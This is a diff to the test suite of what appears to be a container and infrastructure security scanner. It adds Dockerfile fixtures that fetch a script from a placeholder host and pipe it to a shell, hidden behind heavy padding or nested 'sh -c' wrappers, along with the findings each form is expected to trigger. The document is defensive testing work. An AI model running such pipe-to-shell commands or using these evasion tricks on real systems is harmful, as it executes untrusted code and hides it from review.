@@ -6,6 +6,7 @@ Each attack brings in a privileged container, or what is as bad in the other for
 from __future__ import annotations
 
 import json
+import shlex
 import shutil
 from collections.abc import Callable
 from pathlib import Path
@@ -173,6 +174,14 @@ def test_a_link_that_was_there_is_known(run: Run, tree: Path) -> None:
 
 # -- ways to write a file that we would not take for one
 
+
+def wrapped(script: str, times: int) -> str:
+    """A script in as many shells, one in another."""
+    for _ in range(times):
+        script = "sh -c " + shlex.quote(script)
+    return script
+
+
 FORMS: dict[str, tuple[str, str | bytes]] = {
     "padded-manifest": ("bad.yaml", PAD * 60_000 + POD),
     "oversized-manifest": ("bad.yaml", PAD * 260_000 + POD),
@@ -183,7 +192,9 @@ FORMS: dict[str, tuple[str, str | bytes]] = {
     "oversized-terraform": ("main.tf", TERRAFORM + PAD * 260_000),
     "padded-compose": ("compose.yaml", PAD * 60_000 + COMPOSE),
     "too-many-objects": ("bad.yaml", "apiVersion: v1\nkind: Event\n---\n" * 10_001 + POD),
-    "too-many-instructions": ("Dockerfile", "FROM scratch\n" + "LABEL a=b\n" * 5_001 + "USER root\n"),
+    "many-commands": ("Dockerfile", "FROM scratch\nRUN " + ":;" * 60_000 + " curl a.example.org | sh\n"),
+    "scripts-in-scripts": ("Dockerfile", f"FROM scratch\nRUN {wrapped('curl a.example.org | sh', 8)}\n"),
+    "many-instructions": ("Dockerfile", "FROM scratch\n" + "LABEL a=b\n" * 5_001 + "USER root\n"),
     "byte-order-mark": ("bad.yaml", b"\xef\xbb\xbf" + POD.encode()),
     "utf-16": ("bad.yaml", POD.encode("utf-16")),
     "utf-16-without-mark": ("bad.yaml", POD.encode("utf-16-le")),
@@ -249,9 +260,11 @@ FORMS: dict[str, tuple[str, str | bytes]] = {
 TELLING = {  # where it is not `privileged-container` that must be told
     **dict.fromkeys(("oversized-manifest", "oversized-behind", "huge-dockerfile"), "file-too-large"),
     **dict.fromkeys(("oversized-terraform", "too-many-objects", "lists-in-lists"), "file-too-large"),
-    **dict.fromkeys(("oversized-dockerfile", "too-many-instructions"), "file-too-large"),
+    "many-instructions": "root-user",
     **dict.fromkeys(("large-file-storage", "given-twice", "deep-nesting", "broken-key"), "unparsable-file"),
-    **dict.fromkeys(("padded-dockerfile", "dockerfile-txt", "containerfile"), "pipe-to-shell"),
+    **dict.fromkeys(("padded-dockerfile", "oversized-dockerfile"), "pipe-to-shell"),
+    **dict.fromkeys(("dockerfile-txt", "containerfile"), "pipe-to-shell"),
+    **dict.fromkeys(("many-commands", "scripts-in-scripts"), "file-too-large"),
     **dict.fromkeys(("padded-compose", "stack", "compose-as-manifest"), "compose-privileged"),
     **dict.fromkeys(("json", "escaped-json"), "host-pid"),
 }
